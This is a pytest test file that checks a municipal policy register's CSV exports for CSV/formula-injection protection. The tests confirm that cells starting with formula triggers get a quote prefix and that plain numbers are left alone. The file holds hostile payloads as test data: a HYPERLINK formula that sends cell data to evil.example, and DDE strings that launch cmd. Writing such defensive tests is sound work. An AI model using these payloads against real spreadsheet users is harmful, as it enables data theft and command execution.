"""CSV exports are safe to open in a spreadsheet: no cell is read as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from assistant.register import render
from assistant.register.commitments import commitments
from assistant.register.compare import compare
from assistant.register.models import Amount, Provenance, Record
from assistant.register.store import RegisterStore
from tests.unit.register.conftest import meta

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Klik hier")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    "cell",
    [
        HYPERLINK,
        DDE,
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",  # spreadsheets may trim the whitespace on import
        "\n=1+1",
        "\u00a0@SUM(A1)",
        "-1.250 euro",  # a number with words is text: neutralised
        "-",
        "=",
    ],
)
def test_cells_that_start_a_formula_get_a_quote(cell: str) -> None:
    assert render.neutralise_csv_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "Jeugdhulp",
        "",
        "2022: € 2.400.000",
        "a = b + c",
        "Schuldhulp blijft gratis.",
        # Plain numbers stay numbers (the deliberate exception): budget figures may be negative.
        "-1.250",
        "-1.250,50",
        "-12,5%",
        "+3",
        "1.250",
        "-0",
    ],
)
def test_text_and_plain_numbers_are_left_as_they_are(cell: str) -> None:
    assert render.neutralise_csv_cell(cell) == cell


@pytest.mark.parametrize("value", [3, -5, 2.5, None])
def test_non_text_values_pass_unchanged(value: object) -> None:
    assert render.neutralise_csv_cell(value) is value


def _r(kind: str, text: str, doc: str, municipality: str, page: int, quote: str = "", **kw) -> Record:
    quote = quote or text
    return Record(kind, text, Provenance(doc, page, quote, 0, len(quote)), municipality, 2024, **kw)


@pytest.fixture
def poisoned(tmp_path: Path) -> RegisterStore:
    """A register whose texts came from a hostile PDF."""
    store = RegisterStore(tmp_path / "register.sqlite")
    doc = meta("kwaadstad-plan-2024", "Kwaadstad", 2024)
    store.replace_document(
        doc,
        [
            _r("goal", HYPERLINK, doc.doc_id, "Kwaadstad", 1, DDE, themes=("jeugd",)),
            _r("measure", "  +1+cmd|' /C calc'!A0", doc.doc_id, "Kwaadstad", 2, themes=("jeugd",)),
            _r("budget", "-1.250", doc.doc_id, "Kwaadstad", 3, "-1.250", themes=("jeugd",),
               amounts=(Amount(-1_250, 2024, "2024"),)),
        ],
    )  # fmt: skip
    return store


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(text: str) -> None:
    for cell in _cells(text):
        start = cell.lstrip()
        if start[:1] in TRIGGERS or cell[:1] in TRIGGERS:
            assert render._PLAIN_NUMBER.fullmatch(cell), f"formula left in CSV: {cell!r}"


def test_every_csv_export_neutralises_formulas(poisoned: RegisterStore) -> None:
    records = poisoned.query(municipality="Kwaadstad")
    exports = {
        "register": render.records_to_csv(records),
        "compare": render.compare_to_csv(compare(poisoned, "jeugd", ["Kwaadstad", DDE])),
        "compare-long": render.compare_to_csv(compare(poisoned, "jeugd", ["Kwaadstad"]), long=True),
        "commitments": render.commitments_to_csv(commitments(poisoned, "Kwaadstad")),
    }
    for text in exports.values():
        _assert_safe(text)
    assert "'" + HYPERLINK in _cells(exports["compare-long"])
    register = _cells(exports["register"])
    assert "'" + HYPERLINK in register
    assert "'" + DDE in register and "'  +1+cmd|' /C calc'!A0" in register
    assert "-1.250" in register  # a plain negative figure stays a number
    assert "'" + DDE in _cells(exports["compare"])  # a municipality name from the request, in the header
    assert "'  +1+cmd|' /C calc'!A0" in _cells(exports["commitments"])
